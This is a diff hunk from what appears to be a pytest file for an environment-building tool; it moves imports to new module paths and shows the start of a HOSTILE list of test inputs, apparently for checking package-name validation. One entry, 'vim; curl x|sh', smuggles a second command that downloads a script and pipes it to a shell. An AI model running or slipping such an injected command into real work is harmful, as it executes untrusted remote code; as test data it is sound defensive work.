@@ -4,8 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from envbuild.errors import EXIT_USAGE, UsageError
-from envbuild.packages import apt_package, conda_spec, pip_requirement
+from envbuild.common.errors import EXIT_USAGE, UsageError
+from envbuild.core.packages import apt_package, conda_spec, pip_requirement
 
 HOSTILE = [
     "vim; curl x|sh",
